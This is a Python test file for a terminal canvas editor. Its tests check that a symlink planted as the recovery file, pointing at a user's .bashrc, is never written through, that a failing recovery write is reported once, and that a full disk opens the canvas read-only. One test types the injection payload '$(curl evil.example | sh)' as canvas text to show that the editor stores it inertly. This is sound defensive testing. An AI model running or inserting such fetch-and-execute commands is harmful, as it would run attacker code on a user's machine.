"""The editor with planted files beside the canvas and a disk that refuses the lock: the user is told
in one line, nothing is written through a link, and the canvas opens (read-only when unlocked)."""

from __future__ import annotations

import errno
import os
import threading
from pathlib import Path
from typing import Any

import pytest
from tests.observe import Notices
from tests.tui.helpers import make_app
from tests.waiting import wait_until

from canvas_tui.files import recovery
from canvas_tui.files.lock import lock_path


async def test_typing_never_writes_through_a_planted_recovery_link(example_copy: Path, bashrc: Path) -> None:
    """Point 1: a clone holds `.canvas.toml.recovery -> ../home/.bashrc`; the user opens, types, quits."""
    planted = recovery.recovery_path(example_copy)
    planted.symlink_to(os.path.relpath(bashrc, planted.parent))
    notices = Notices()
    app = make_app(example_copy)
    own = recovery.recovery_path(example_copy, app.session.me.token)
    async with app.run_test(size=(120, 40), message_hook=notices.hook) as pilot:
        await wait_until(
            lambda: any(f"{planted}: is a symbolic link" in m for m in notices.messages),
            "the planted link is named as the canvas opens",
        )
        await pilot.press("e", *"$(curl evil.example | sh)")
        await wait_until(
            lambda: (
                (found := recovery.read(own)) is not None
                and found.mine.blocks["background"].text.endswith("$(curl evil.example | sh)")
            ),
            "the unsaved words are kept under the instance's own recovery name",
        )
        assert [m for m in notices.messages if "left as it is" in m] == [
            f"{planted}: is a symbolic link; canvas-tui does not follow links it did not create; "
            "left as it is"
        ], "said once, in one line"
        await pilot.press("escape", "q", "d")  # quit, discard
        await pilot.pause()
    assert bashrc.read_text(encoding="utf-8") == "alias ll='ls -l'\n"
    assert planted.is_symlink(), "the clean exit leaves the link"
    assert not os.path.lexists(own), "and removes the instance's own file"


async def test_a_failing_recovery_write_is_said_once(
    example_copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Told after the first pause in typing, not again after every later one for the same reason."""

    def refuse(*args: Any, **kwargs: Any) -> None:
        raise OSError(errno.EROFS, os.strerror(errno.EROFS))

    monkeypatch.setattr(recovery, "atomic_write", refuse)
    notices = Notices()
    app = make_app(example_copy)
    writers: list[threading.Thread] = []
    real_write = app.session.write_recovery

    def counted(record: Any) -> bool:
        writers.append(threading.current_thread())
        return real_write(record)

    monkeypatch.setattr(app.session, "write_recovery", counted)
    async with app.run_test(size=(120, 40), message_hook=notices.hook) as pilot:
        failed = f"Could not write the recovery file {app.session.recovery_path}"

        async def type_and_let_the_recovery_timer_run(keys: list[str], count: int) -> None:
            await pilot.press(*keys)
            await wait_until(lambda: len(writers) >= count, f"recovery write {count} runs")
            # A writer tells the app before it ends: once it has ended, its notice was raised.
            await wait_until(lambda: not writers[count - 1].is_alive(), f"recovery write {count} ends")

        await type_and_let_the_recovery_timer_run(["e", "a"], 1)
        await type_and_let_the_recovery_timer_run(["b"], 2)
        assert [m for m in notices.messages if m.startswith(failed)] == [
            f"{failed}: {os.strerror(errno.EROFS)}"
        ]
        await pilot.press("escape", "q", "d")


async def test_a_full_disk_when_taking_the_lock_opens_read_only(
    example_copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Point 5: was a traceback, exit 1 and a 0-byte lock left behind."""
    lock = lock_path(example_copy)
    real_write = os.write

    def full_for_the_lock(fd: int, data: Any) -> int:
        if os.readlink(f"/proc/self/fd/{fd}") == str(lock):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real_write(fd, data)

    if not os.path.isdir("/proc/self/fd"):
        pytest.skip("needs /proc to tell the lock's writes from the terminal's")
    monkeypatch.setattr(os, "write", full_for_the_lock)
    notices = Notices()
    app = make_app(example_copy)
    async with app.run_test(size=(120, 40), message_hook=notices.hook) as pilot:
        await wait_until(lambda: app.session.read_only, "the canvas is read-only")
        await wait_until(
            lambda: any("could not be locked" in m and "opened read-only" in m for m in notices.messages),
            "the user is told why",
        )
        assert not os.path.lexists(lock)
        await pilot.press("q")
        await pilot.pause()
    assert not os.path.lexists(lock)
